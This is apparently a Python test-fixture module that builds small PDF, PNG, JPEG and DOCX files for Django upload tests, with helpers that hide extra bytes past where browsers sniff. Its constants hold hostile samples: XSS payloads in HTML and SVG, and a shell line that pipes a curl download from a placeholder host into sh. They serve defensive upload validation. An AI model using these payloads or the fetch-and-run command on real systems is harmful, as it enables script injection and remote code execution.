"""Small files of each kind for upload tests, made in code: real formats, real attacks."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile


def pdf(extra=b""):
    """A minimal PDF; `extra` goes into a stream deep inside, past where browsers sniff."""
    padding = b"%" + b"x" * 2000 + b"\n"
    return (b"%PDF-1.4\n" + padding + b"1 0 obj\n<< /Length " + str(len(extra)).encode() + b" >>\nstream\n" + extra
            + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


def png(extra=b""):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
            + (chunk(b"tEXt", b"Comment\x00" + extra) if extra else b"") + chunk(b"IEND", b""))


def jpeg():
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"


def docx():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                         'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
                         'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        archive.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid | sh\n"


def upload(name, data, content_type="application/octet-stream", *, spooled=False):
    """An upload as Django hands it to a view: in memory, or (spooled) in a temporary file on
    disk, as for a request over FILE_UPLOAD_MAX_MEMORY_SIZE."""
    if not spooled:
        return SimpleUploadedFile(name, data, content_type=content_type)
    file = TemporaryUploadedFile(name, content_type, len(data), None)
    file.write(data)
    file.seek(0)
    return file
